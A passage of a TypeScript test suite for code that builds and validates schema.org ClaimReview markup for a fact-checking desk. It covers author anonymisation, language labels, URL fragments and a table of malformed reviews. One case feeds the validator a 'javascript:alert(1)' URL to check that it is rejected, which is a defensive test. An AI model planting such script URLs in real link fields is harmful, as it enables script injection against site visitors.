      { resolution: true, approver: { name: 'Marie *Curie*' } },
      { approver: null },
    ]) {
      const [review] = toClaimReview(withFirstClaim(patch));
      expect(review.author).toEqual({ '@type': 'Organization', name: 'Cellule vérif’' });
      const text = JSON.stringify(review);
      expect(text).not.toMatch(/Curie|Dupont|Person|approv|resolution/i);
      expect(validateClaimReview(review)).toEqual([]);
    }
  });

  it('omits the claim author and appearance when the article source is unknown', () => {
    const [review] = toClaimReview(withArticle({ sourceUrl: null, publisher: '  ' }));
    expect(review.itemReviewed).toEqual({ '@type': 'Claim' });
    expect(JSON.stringify(review)).not.toContain('appearance');
  });

  it('labels the verdict in the article language', () => {
    const [first, second] = toClaimReview(withArticle({ language: 'en-GB' }));
    expect(first.reviewRating.alternateName).toBe('Mostly true');
    expect(second.reviewRating.alternateName).toBe('Unverifiable');
    expect(first.inLanguage).toBe('en-GB');
  });

  it('replaces an existing fragment of the fact-check URL', () => {
    const data = { ...fixture(), factCheckUrl: 'https://factdesk.example.org/articles/art_1#top' };
    expect(toClaimReview(data)[0].url).toBe(
      'https://factdesk.example.org/articles/art_1#sentence-1',
    );
  });

  describe('validateClaimReview', () => {
    it('accepts every object the builder produces, also after JSON serialisation', () => {
      const all = [
        ...reviews,
        ...toClaimReview(withArticle({ sourceUrl: null, publisher: null, language: 'en' })),
        ...toClaimReview({ ...fixture(), claims: RATINGS.map((rating, i) => claim(rating, i)) }),
      ];
      expect(all).toHaveLength(reviews.length + 2 + RATINGS.length - 1);
      for (const review of all) {
        expect(validateClaimReview(review)).toEqual([]);
        expect(validateClaimReview(JSON.parse(JSON.stringify(review)))).toEqual([]);
      }
    });

    const good = (): Record<string, unknown> =>
      JSON.parse(JSON.stringify(reviews[0])) as Record<string, unknown>;
    const broken = (patch: (review: Record<string, unknown>) => void) => {
      const review = good();
      patch(review);
      return review;
    };

    it.each<[string, unknown, RegExp]>([
      ['not an object', null, /JSON object/],
      ['an array', [reviews[0]], /JSON object/],
      ['wrong @type', broken((r) => (r['@type'] = 'Review')), /@type/],
      ['wrong @context', broken((r) => (r['@context'] = 'https://example.org')), /@context/],
      ['no claimReviewed', broken((r) => delete r.claimReviewed), /claimReviewed/],
      ['blank claimReviewed', broken((r) => (r.claimReviewed = '  ')), /claimReviewed/],
      ['no reviewRating', broken((r) => delete r.reviewRating), /reviewRating/],
      [
        'no alternateName',
        broken((r) => delete (r.reviewRating as Record<string, unknown>).alternateName),
        /alternateName/,
      ],
      [
        'ratingValue out of range',
        broken((r) => ((r.reviewRating as Record<string, unknown>).ratingValue = 7)),
        /ratingValue/,
      ],
      [
        'ratingValue as text',
        broken((r) => ((r.reviewRating as Record<string, unknown>).ratingValue = 'vrai')),
        /ratingValue/,
      ],
      ['no url', broken((r) => delete r.url), /url/],
      ['relative url', broken((r) => (r.url = '/articles/art_1#sentence-1')), /url/],
      ['javascript url', broken((r) => (r.url = 'javascript:alert(1)')), /url/],
      ['no author', broken((r) => delete r.author), /author/],
      ['author without name', broken((r) => (r.author = { '@type': 'Organization' })), /author/],
      ['no datePublished', broken((r) => delete r.datePublished), /datePublished/],
      ['bad datePublished', broken((r) => (r.datePublished = '03/03/2025')), /datePublished/],
      ['no itemReviewed', broken((r) => delete r.itemReviewed), /itemReviewed/],
      ['itemReviewed not a Claim', broken((r) => (r.itemReviewed = 'x')), /itemReviewed/],
      [
        'relative appearance',
        broken((r) => ((r.itemReviewed as Record<string, unknown>).appearance = ['/a'])),
        /appearance/,
      ],
    ])('reports %s', (_name, review, problem) => {
      const problems = validateClaimReview(review);
      expect(problems.length).toBeGreaterThan(0);
      expect(problems.join('\n')).toMatch(problem);
    });

    it('catches a fact-check URL that is not absolute in the data', () => {
      const [review]: ClaimReview[] = toClaimReview({ ...fixture(), factCheckUrl: '/articles/1' });
      expect(review.url).toBe('/articles/1#sentence-1');
      expect(validateClaimReview(review)).toEqual([
        'url is required and must be an absolute http(s) URL.',
      ]);
    });
  });
});
